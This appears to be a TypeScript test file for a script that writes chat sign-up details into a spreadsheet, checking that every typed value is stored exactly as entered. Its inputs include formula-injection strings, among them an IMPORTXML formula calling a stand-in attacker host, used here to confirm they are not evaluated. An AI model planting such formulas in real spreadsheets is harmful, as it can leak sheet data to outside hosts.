import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { newScript } from '../tools/form-services.mjs';

/** One row of the sheet, by its head, after a sign-up with these contact details and this code. */
function rowFor(contact: object, code: string | null = null): Record<string, unknown> {
  const rows: unknown[][] = [];
  const post = newScript(rows) as (contents: string) => string;
  const envelope = JSON.stringify({
    id: 'a',
    occurredAt: '2027-03-04T19:00:00.000Z',
    contact: { firstName: null, lastName: null, email: null, phone: null, ...contact },
    referral: code && { code },
    answers: { code },
    consents: [{ id: 'mail', granted: true, text: '=You may mail me.' }],
  });
  assert.equal(JSON.parse(post(envelope)).id, 'a');
  // The chat sends again when an answer got lost on its way.
  post(envelope);
  assert.equal(rows.length, 2);
  return Object.fromEntries((rows[0] as string[]).map((name, at) => [name, rows[1]![at]]));
}

describe('the script for a sheet', () => {
  for (const typed of [
    '0612345678',
    '+31 6 12345678',
    '+31612345678',
    '0042',
    '1e5',
    '3-4',
    '3/4/2027',
    '2027-03-04',
    '12:30',
    '50%',
    '€ 5',
    'TRUE',
    '1,234.5',
    '=1+1',
    '=IMPORTXML("https://evil.example","//a")',
    '-Anna',
    '@Anna',
    '+Anna',
    '\t=1+1',
    "'t Hart",
    "''",
    'Anna',
    'jürgen@fern.example',
    '٠٦١٢٣٤٥٦٧٨',
  ])
    it(`keeps ${JSON.stringify(typed)} as it was typed, in every column`, () => {
      const row = rowFor({ firstName: typed, lastName: typed, email: typed, phone: typed }, typed);
      assert.deepEqual(
        [row.firstName, row.lastName, row.email, row.phone, row.referral],
        [typed, typed, typed, typed, typed],
      );
      assert.equal(row.answers, JSON.stringify({ code: typed }));
      assert.equal(row.consents, 'mail: =You may mail me.');
      assert.equal(row.occurredAt, '2027-03-04T19:00:00.000Z');
    });

  it('leaves a cell empty where nothing was typed', () => {
    const row = rowFor({ firstName: 'Anna' });
    assert.deepEqual([row.lastName, row.email, row.referral], ['', '', '']);
  });
});
